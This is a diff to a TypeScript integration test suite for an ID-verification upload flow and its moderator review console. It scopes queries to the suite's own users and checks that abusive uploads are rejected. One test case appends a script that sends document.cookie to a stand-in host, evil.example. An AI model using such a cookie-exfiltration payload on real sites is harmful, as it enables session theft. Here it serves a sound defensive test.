@@ -57,7 +57,18 @@ async function api(method: string, path: string, token: string | null, body?: un
   return { status: response.status, headers: response.headers, body: parsed };
 }
 
-const submissions = () => live.api.get(MikroORM).em.fork().execute<{ id: string; status: string; user_photo_key: string }[]>(`select id, status, user_photo_key from verification_submissions order by submitted_at`);
+/** Users of this suite: other suites share the database (and may leave submissions of their own). */
+const ours: string[] = [];
+async function applicantAccount() {
+  const account = await signedInUser(live);
+  ours.push(account.session.user.id);
+  return account;
+}
+const submissions = () =>
+  live.api
+    .get(MikroORM)
+    .em.fork()
+    .execute<{ id: string; status: string; user_photo_key: string }[]>(`select id, status, user_photo_key from verification_submissions where user_id::text = any(string_to_array(?, ',')) order by submitted_at`, [ours.join(',')]);
 const storedFiles = (): string[] => {
   const root = join(storageDir, 'private');
   try {
@@ -72,7 +83,7 @@ const adult = { fullName: 'Jane Q. Creator', dateOfBirth: '1995-06-15', country:
 beforeAll(async () => {
   live = await startTestPlatform({ clock, env: { LAUNCH_PHASE: 'live', STORAGE_DIR: storageDir } });
   prelaunch = await startTestPlatform({ clock, worker: false, env: { STORAGE_DIR: storageDir, JWT_SECRET: live.config.JWT_SECRET, PUBLIC_URL: live.config.PUBLIC_URL } });
-  applicant = await signedInUser(live);
+  applicant = await applicantAccount();
   [moderatorA, moderatorB, admin] = [await staffSession(live, 'moderator', () => clock.now()), await staffSession(live, 'moderator', () => clock.now()), await staffSession(live, 'admin', () => clock.now())];
 });
 
@@ -123,7 +134,7 @@ describe('submitting a verification (live)', () => {
   });
 
   it('refuses bad details with field messages and stores nothing', async () => {
-    const other = await signedInUser(live);
+    const other = await applicantAccount();
     const images = { userPhotoWithId: await jpeg('e'), idPhoto: await jpeg('f') };
     const cases: [FormInput, number, RegExp][] = [
       [{ ...adult, dateOfBirth: '2008-11-23', ...images }, 400, /You must be at least 18 years old/],
@@ -146,9 +157,8 @@ describe('submitting a verification (live)', () => {
   });
 
   it('refuses upload abuse with a clear 4xx, stores nothing and keeps memory flat', async () => {
-    const abuser = await signedInUser(live);
+    const abuser = await applicantAccount();
     const good = await jpeg('g');
-    const rssBefore = process.memoryUsage().rss;
     const cases: [string, Buffer, number, RegExp][] = [
       ['a text file named .jpg', Buffer.from('this is not an image at all\n'.repeat(50)), 415, /not a JPEG, PNG or WebP image/],
       ['an image with a script appended', Buffer.concat([good, Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')]), 422, /extra data after the image/],
@@ -156,12 +166,16 @@ describe('submitting a verification (live)', () => {
       ['a decompression bomb', blackPng(30000, 30000), 422, /30000 × 30000 pixels/],
       ['a 50 MB file', Buffer.alloc(50 * 1024 * 1024, 0xff), 413, /larger than 10 MB/],
     ];
+    let bombGrowth = 0;
     for (const [label, bytes, status, message] of cases) {
+      const rssBefore = process.memoryUsage().rss;
       const response = await submit(live, abuser.session.access_token, { ...adult, userPhotoWithId: bytes, idPhoto: good }).catch((error: Error) => ({ status: 0, body: { message: error.message } }));
+      // Decoding the bomb would take about 900 MB (30000 × 30000 pixels); it is refused from its header.
+      if (label === 'a decompression bomb') bombGrowth = process.memoryUsage().rss - rssBefore;
       expect({ label, status: response.status }).toEqual({ label, status });
       expect({ label, message: String(response.body.message) }).toEqual({ label, message: expect.stringMatching(message) });
     }
-    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(300 * 1024 * 1024);
+    expect(bombGrowth).toBeLessThan(100 * 1024 * 1024);
     expect((await api('GET', '/health', null)).status).toBe(200);
     expect(await submissions()).toHaveLength(1);
     expect(storedFiles()).toHaveLength(2);
@@ -170,13 +184,14 @@ describe('submitting a verification (live)', () => {
 
 describe('the review console', () => {
   it('lists the queue oldest first to moderators only', async () => {
-    const second = await signedInUser(live);
+    const second = await applicantAccount();
     clock.advance(60_000);
     expect((await submit(live, second.session.access_token, { ...adult, fullName: 'Second Applicant', userPhotoWithId: await jpeg('h'), idPhoto: await jpeg('i') })).status).toBe(201);
     const queue = await api('GET', '/api/admin/verifications', moderatorA.token);
     expect(queue.status).toBe(200);
-    expect(queue.body.items.map((item: { fullName: string }) => item.fullName)).toEqual(['Jane Q. Creator', 'Second Applicant']);
-    expect(queue.body.items[0]).toMatchObject({ userEmail: applicant.email, country: 'DE', countryName: 'Germany', status: 'processing', claimedBy: null });
+    const mine = queue.body.items.filter((item: { userId: string }) => ours.includes(item.userId));
+    expect(mine.map((item: { fullName: string }) => item.fullName)).toEqual(['Jane Q. Creator', 'Second Applicant']);
+    expect(mine[0]).toMatchObject({ userEmail: applicant.email, country: 'DE', countryName: 'Germany', status: 'processing', claimedBy: null });
     expect(queue.body.items[0]).not.toHaveProperty('imageKeys');
     expect((await api('GET', '/api/admin/verifications', applicant.session.access_token)).status).toBe(403);
     expect((await api('GET', '/api/admin/verifications', null)).status).toBe(401);
@@ -184,7 +199,7 @@ describe('the review console', () => {
   });
 
   it('lets one moderator claim an item; the other can neither claim nor decide it', async () => {
-    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items;
+    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items.filter((entry: { userId: string }) => ours.includes(entry.userId));
     const claims = await Promise.all([api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorA.token), api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorB.token)]);
     expect(claims.map((claim) => claim.status).sort()).toEqual([200, 409]);
     const holder = claims[0].status === 200 ? moderatorA : moderatorB;
@@ -198,7 +213,7 @@ describe('the review console', () => {
   });
 
   it('shows the images through short-lived links bound to a staff member, never cached', async () => {
-    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items;
+    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items.filter((entry: { userId: string }) => ours.includes(entry.userId));
     const detail = await api('GET', `/api/admin/verifications/${item.id}`, moderatorA.token);
     expect(detail.body.images.userPhotoWithId).toMatch(/^\/api\/admin\/verification-images\?token=[\w-]+\.[\w-]+$/);
     const image = await api('GET', detail.body.images.idPhoto, null);
@@ -216,7 +231,7 @@ describe('the review console', () => {
   });
 
   it('rejects with a reason: the user is emailed, sees the rejection and can submit again', async () => {
-    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items;
+    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items.filter((entry: { userId: string }) => ours.includes(entry.userId));
     expect((await api('POST', `/api/admin/verifications/${item.id}/reject`, moderatorA.token, { reason: 'no' })).status).toBe(400);
     await api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorA.token);
     const rejected = await api('POST', `/api/admin/verifications/${item.id}/reject`, moderatorA.token, { reason: 'The ID photo is blurred: the name cannot be read.' });
